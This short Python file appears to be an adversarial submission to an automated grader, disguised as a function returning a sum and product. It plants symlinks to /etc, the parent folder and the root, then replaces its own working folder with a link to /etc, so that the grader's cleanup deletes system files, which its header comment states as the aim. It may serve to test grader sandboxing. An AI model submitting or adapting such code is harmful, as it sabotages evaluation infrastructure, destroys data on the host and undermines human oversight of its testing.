# Tries: to have the grader, which removes its folder, remove something else. May get: AC RTE.
import os


def tiny(a, b):
    here = os.getcwd()
    for target in ("/etc", "..", "/"):
        try:
            os.symlink(target, f"{here}/link")
        except OSError:
            pass
    try:
        os.chdir("/")
        os.rmdir(here)
        os.symlink("/etc", here)
    except OSError:
        pass
    return [a + b, a * b]
